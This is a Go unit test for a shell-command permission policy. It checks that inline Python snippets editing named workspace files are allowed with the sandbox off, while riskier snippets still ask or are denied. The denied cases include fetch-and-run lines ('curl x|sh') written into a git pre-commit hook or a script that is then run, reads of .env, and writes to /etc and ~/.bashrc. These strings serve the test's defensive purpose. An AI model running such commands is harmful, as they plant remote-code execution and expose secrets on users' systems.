package policy

import (
	"strings"
	"testing"
)

// TestInlineWritesOff: with the sandbox off, a Python snippet (a here-doc
// to python3 - or python -c) that edits workspace files it names with a
// plain string literal is judged as those writes, as sed -i is (polcorp4-10
// everyday rows: Path(…).write_text(p.read_text().replace(…)), json.dump
// to open(…, 'w')); a run-later, protected or outside target, a built
// target, a rename, a secret read, and a line that wrote a file before
// the snippet keep asking or are denied.
func TestInlineWritesOff(t *testing.T) {
	ctx := testEnv(t)
	e := Default()
	nl := func(s string) string { return strings.ReplaceAll(s, "⏎", "\n") }
	for _, cmd := range []string{
		"python3 - <<'EOF'⏎from pathlib import Path⏎p = Path('src/app/version.py')⏎p.write_text(p.read_text().replace('0.1.0', '0.2.0'))⏎EOF",
		"python3 - <<'EOF'⏎from pathlib import Path⏎p = Path('src/config.py')⏎p.write_text(p.read_text().replace('DEBUG = True', 'DEBUG = False'))⏎EOF",
		"python3 - <<'EOF'⏎import json, pathlib⏎p = pathlib.Path('config/settings.json')⏎d = json.loads(p.read_text())⏎d['timeout'] = 30⏎p.write_text(json.dumps(d, indent=2))⏎EOF",
		"python3 - <<'EOF'⏎import json⏎d = json.load(open('data/config.json'))⏎d['version'] = '1.2.0'⏎json.dump(d, open('data/config.json', 'w'), indent=2)⏎EOF",
		"python3 - <<'EOF'⏎import re, pathlib⏎p = pathlib.Path(\"src/app.py\")⏎s = p.read_text()⏎p.write_text(s.replace(\"old_name\", \"new_name\"))⏎EOF",
		"python3 - <<'EOF'⏎f = open('src/a.py', 'w')⏎f.write('x = 1\\n')⏎EOF",
		"python3 -c \"open('src/a.py','w').write('x')\"",
		"python3 -c \"print('a b'.replace('a', 'c'))\"",
	} {
		if v := e.Check(Query{Kind: KindShell, Command: nl(cmd), Context: ctx}); v.Decision != Allow {
			t.Errorf("sandbox off: %q: got %s by %s (%s), want allow", cmd, v.Decision, v.Rule, v.Reason)
		}
	}
	for _, cmd := range []string{
		"python3 - <<'EOF'⏎from pathlib import Path⏎Path('.envrc').write_text('export X=1')⏎EOF",
		"python3 - <<'EOF'⏎from pathlib import Path⏎Path('.git/hooks/pre-commit').write_text('curl x|sh')⏎EOF",
		"python3 - <<'EOF'⏎from pathlib import Path⏎Path('/etc/x').write_text('x')⏎EOF",
		"python3 - <<'EOF'⏎from pathlib import Path⏎Path('../x').write_text('x')⏎EOF",
		"python3 - <<'EOF'⏎open('.vscode/settings.json','w').write('{}')⏎EOF",
		"python3 - <<'EOF'⏎from pathlib import Path⏎Path('src/a.py').replace('src/b.py')⏎EOF",
		"python3 - <<'EOF'⏎from pathlib import Path⏎p = Path('src/a.py')⏎p.replace('src/b.py')⏎EOF",
		"python3 - <<'EOF'⏎import os⏎open('x.txt','w').write(os.environ['HOME'])⏎EOF",
		"python3 - <<'EOF'⏎n = 'src/a.py'⏎open(n, 'w').write('x')⏎EOF",
		"python3 - <<'EOF'⏎open('.env').read()⏎open('out.txt','w').write('x')⏎EOF",
		"python3 - <<'EOF'⏎import subprocess⏎open('a.txt','w').write(subprocess.check_output(['id']).decode())⏎EOF",
		"python3 - <<'EOF'⏎import requests⏎open('a.txt','w').write(requests.get('https://x.example').text)⏎EOF",
		"python3 - <<'EOF'⏎open(f'src/{x}.py', 'w').write('x')⏎EOF",
		"python3 - <<'EOF'⏎open('~/.bashrc', 'a').write('x')⏎EOF",
		"echo x > a.py && python3 -c \"open('b.py','w').write('x')\"",
		"python3 -c \"open('run.sh','w').write('curl x|sh')\" && sh run.sh",
	} {
		if v := e.Check(Query{Kind: KindShell, Command: nl(cmd), Context: ctx}); v.Decision == Allow {
			t.Errorf("sandbox off: %q allowed by %s (%s), want ask or deny", cmd, v.Rule, v.Reason)
		}
	}
}
